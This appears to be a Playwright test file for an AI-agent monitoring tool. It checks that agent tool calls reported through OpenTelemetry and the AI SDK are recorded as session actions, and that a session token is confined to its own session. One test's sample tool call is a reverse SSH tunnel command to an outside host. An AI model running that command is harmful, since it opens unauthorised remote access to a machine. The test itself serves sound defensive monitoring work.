// Telemetry of real agent libraries, joined by the environment that `vigil run` gives: OpenTelemetry's own exporters, and the AI SDK.
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import path from 'node:path'
import { expect, test } from '@playwright/test'
import { type Product, signIn, startProduct, until, whyNoCgroup } from './product.ts'

const missing = whyNoCgroup()
test.skip(missing !== undefined && !process.env.CI, `LEFT OUT: ${missing}`)

const root = path.resolve(import.meta.dirname, '..')
let product: Product
let folder: string
test.beforeAll(async () => {
  product = await startProduct()
  // Inside the project, so that node finds the libraries; removed afterwards.
  mkdirSync(path.join(root, 'test-results'), { recursive: true })
  folder = mkdtempSync(path.join(root, 'test-results', 'agent-'))
})
test.afterAll(async () => {
  await product.stop()
  rmSync(folder, { recursive: true, force: true })
})

/** Runs an agent's source under `vigil run` to its end. */
async function runAgent(session: string, source: string): Promise<{ code: number; said: string }> {
  const file = path.join(folder, `${session}.mjs`)
  writeFileSync(file, source)
  const child = product.vigil('run', '--session', session, '--', process.execPath, file)
  let said = ''
  child.stdout?.on('data', (chunk: Buffer) => {
    said += chunk.toString('utf8')
  })
  child.stderr?.on('data', (chunk: Buffer) => {
    said += chunk.toString('utf8')
  })
  const code = await new Promise<number>((resolve) => child.once('exit', (status) => resolve(status ?? -1)))
  return { code, said }
}

type Events = { events: { kind: string; trust: string; data: Record<string, unknown> }[] }

/** The exporter gets endpoint, protocol and token from the environment alone. */
const exporterSource = `
import { trace } from '@opentelemetry/api'
import { NodeTracerProvider, SimpleSpanProcessor } from '@opentelemetry/sdk-trace-node'
import { OTLPTraceExporter } from '@opentelemetry/exporter-trace-otlp-proto'
import { LoggerProvider, SimpleLogRecordProcessor } from '@opentelemetry/sdk-logs'
import { OTLPLogExporter } from '@opentelemetry/exporter-logs-otlp-proto'
const provider = new NodeTracerProvider({ spanProcessors: [new SimpleSpanProcessor(new OTLPTraceExporter())] })
provider.register()
`

test('spans of the OpenTelemetry JS SDK become actions of the session that vigil run started, worth the agent’s word', async ({
  page,
}) => {
  const { code, said } = await runAgent(
    'otel-sdk',
    `${exporterSource}
const span = trace.getTracer('agent').startSpan('execute_tool shell', { attributes: {
  'gen_ai.operation.name': 'execute_tool', 'gen_ai.tool.name': 'shell', 'gen_ai.tool.call.id': 'call-1',
  'gen_ai.agent.name': 'rome-30b', 'gen_ai.tool.call.arguments': JSON.stringify({ command: 'ssh -fN -R 2222:127.0.0.1:22 ops@203.0.113.40' }) } })
span.end()
const logs = new LoggerProvider({ processors: [new SimpleLogRecordProcessor(new OTLPLogExporter())] })
logs.getLogger('com.anthropic.claude_code.events').emit({ eventName: 'claude_code.tool_result', body: 'claude_code.tool_result', attributes: {
  'event.name': 'tool_result', tool_name: 'Bash', tool_use_id: 'toolu_1', success: 'true', duration_ms: '12',
  tool_parameters: JSON.stringify({ full_command: 'npm test' }), tool_input: JSON.stringify({ command: 'npm test' }) } })
await provider.forceFlush(); await logs.forceFlush(); await provider.shutdown(); await logs.shutdown()
`,
  )
  expect(code, said).toBe(0)
  const { events } = await until('the actions have arrived', async () => {
    const page = await product.json<Events>('/api/sessions/otel-sdk/events?limit=500')
    return page.events.filter((event) => event.kind === 'action.ended').length >= 2 && page
  })
  const actions = events.filter((event) => event.kind === 'action.started')
  expect(actions.map((event) => [event.trust, event.data.tool, event.data.summary])).toEqual(
    expect.arrayContaining([
      ['agent', 'shell', 'ssh -fN -R 2222:127.0.0.1:22 ops@203.0.113.40'],
      ['agent', 'Bash', 'npm test'],
    ]),
  )
  expect(events.some((event) => event.kind === 'process.started' && event.trust === 'kernel')).toBe(true)
  await signIn(page, product)
  await page.goto(`${product.url}/sessions/otel-sdk`)
  await expect(page.getByText('ssh -fN -R 2222:127.0.0.1:22 ops@203.0.113.40').first()).toBeVisible()
})

test('tool calls of a real agent library (the AI SDK with a scripted model) become actions with their outcome', async () => {
  const { code, said } = await runAgent(
    'ai-sdk',
    `${exporterSource}
import { generateText, stepCountIs, tool } from 'ai'
import { MockLanguageModelV3 } from 'ai/test'
import { z } from 'zod'
const usage = { inputTokens: { total: 3 }, outputTokens: { total: 5 } }
let step = 0
const model = new MockLanguageModelV3({ doGenerate: async () => step++ === 0
  ? { content: [{ type: 'tool-call', toolCallId: 'call-7', toolName: 'shell', input: JSON.stringify({ command: 'ls /etc' }) }], finishReason: { unified: 'tool-calls' }, usage, warnings: [] }
  : { content: [{ type: 'text', text: 'done' }], finishReason: { unified: 'stop' }, usage, warnings: [] } })
const shell = tool({ description: 'runs a command', inputSchema: z.object({ command: z.string() }), execute: async ({ command }) => 'ran ' + command })
const result = await generateText({ model, prompt: 'look around', tools: { shell }, stopWhen: stepCountIs(3), experimental_telemetry: { isEnabled: true, functionId: 'rome' } })
console.log(result.text)
await provider.forceFlush(); await provider.shutdown()
`,
  )
  expect(code, said).toBe(0)
  const ended = await until('the action has ended', async () => {
    const { events } = await product.json<Events>(
      '/api/sessions/ai-sdk/events?limit=500&kinds=action.started,action.ended',
    )
    return events.some((event) => event.kind === 'action.ended') && events
  })
  expect(ended.find((event) => event.kind === 'action.started')?.data).toMatchObject({
    tool: 'shell',
    summary: 'ls /etc',
  })
  expect(ended.find((event) => event.kind === 'action.ended')?.data).toMatchObject({ outcome: 'ok' })
})

test('a session’s own token appends for that session alone, and reads nothing', async () => {
  const { said } = await runAgent(
    'token',
    `const headers = Object.fromEntries(process.env.OTEL_EXPORTER_OTLP_HEADERS.split(',').map((each) => { const at = each.indexOf('='); return [each.slice(0, at), decodeURIComponent(each.slice(at + 1))] }))
const url = process.env.OTEL_EXPORTER_OTLP_ENDPOINT
const event = (session) => JSON.stringify({ v: 1, kind: 'message.recorded', atMs: Date.now(), session, data: { role: 'assistant', text: 'hello' } })
const own = await fetch(url + '/api/ingest/events', { method: 'POST', headers, body: event('token') + '\\n' + event('somebody-else') })
const read = await fetch(url + '/api/sessions', { headers })
const control = await fetch(url + '/api/sessions/token/controls', { method: 'POST', headers: { ...headers, 'content-type': 'application/json' }, body: '{"action":"resume"}' })
console.log(JSON.stringify({ own: await own.json(), read: read.status, control: control.status, secrets: ['VIGIL_KEY', 'VIGIL_ADMIN', 'VIGIL_PROBE_KEY', 'DATABASE_URL'].filter((name) => process.env[name]) }))
`,
  )
  expect(JSON.parse(said)).toEqual({
    own: { accepted: 1, rejected: 1, errors: [{ line: 2, reason: 'this key speaks for session token only' }] },
    read: 403,
    control: 403,
    secrets: [],
  })
})
